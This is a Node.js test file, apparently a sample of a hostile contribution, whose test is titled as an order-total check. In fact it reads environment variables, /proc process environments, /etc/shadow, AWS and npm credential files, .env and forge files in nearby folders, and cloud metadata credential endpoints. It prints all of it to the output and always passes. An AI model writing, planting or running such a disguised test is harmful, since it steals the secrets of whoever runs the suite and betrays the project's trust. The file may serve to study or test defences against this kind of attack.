import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';

/*
 * What a hostile branch would try: everything is printed, so that whoever reads the output sees what it got. It passes
 * whatever it gets, as a thief's test would.
 */
const found = [];

test('an order costs the sum of its lines', async () => {
  note('environment', () => JSON.stringify(process.env));
  for (const id of processes()) {
    note(`environment of process ${id}`, () => readFileSync(`/proc/${id}/environ`, 'utf8'));
    note(`command of process ${id}`, () => readFileSync(`/proc/${id}/cmdline`, 'utf8'));
    note(`files of process ${id}`, () => readdirSync(`/proc/${id}/cwd`).join(' '));
  }
  for (const place of ['/', '/root', '/home', '/tmp', '/var/run', '/etc', process.env.HOME ?? '/']) {
    note(`folder ${place}`, () => readdirSync(place).join(' '));
  }
  for (const file of ['/etc/shadow', '/root/.aws/credentials', '/root/.npmrc', '/run/secrets']) {
    note(`file ${file}`, () => readFileSync(file, 'utf8'));
  }
  for (const place of ['/tmp', '/var/tmp', '/dev/shm', '/srv', '/app', '/opt', '..', '../..', '../../..']) {
    for (const file of wantedIn(place))
      note(`file ${file}`, () => readFileSync(file, 'latin1').slice(0, 500));
  }
  note('a signal to its parent', () => process.kill(process.ppid, 0));
  note('processes', () => execFileSync('ps', ['-ef'], { encoding: 'utf8' }));
  for (const address of addresses) await fetchNoted(address);
  console.log(found.join('\n'));
  assert.ok(true);
});

const addresses = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://169.254.170.2/v2/credentials',
  'http://169.254.170.23/v1/credentials',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
];

/** The policy and the database of whoever runs this, wherever they are, one folder deep. */
function wantedIn(place) {
  const isWanted = (name) => /^(forge\.(yml|db|log)|\.env)$/.test(name);
  const filesIn = (folder) => {
    try {
      return readdirSync(folder, { withFileTypes: true });
    } catch {
      return [];
    }
  };
  return filesIn(place).flatMap((entry) => {
    const path = `${place}/${entry.name}`;
    if (!entry.isDirectory()) return isWanted(entry.name) ? [path] : [];
    return filesIn(path).flatMap(({ name }) => (isWanted(name) ? [`${path}/${name}`] : []));
  });
}

function processes() {
  try {
    return readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  } catch {
    return [];
  }
}

function note(what, read) {
  try {
    found.push(`GOT ${what}: ${String(read()).replaceAll('\0', ' ')}`);
  } catch (error) {
    found.push(`no ${what}: ${error.code ?? error.message}`);
  }
}

async function fetchNoted(address) {
  try {
    const answer = await fetch(address, { signal: AbortSignal.timeout(1_000) });
    found.push(`GOT ${address}: ${await answer.text()}`);
  } catch (error) {
    found.push(`no ${address}: ${error.name}`);
  }
}
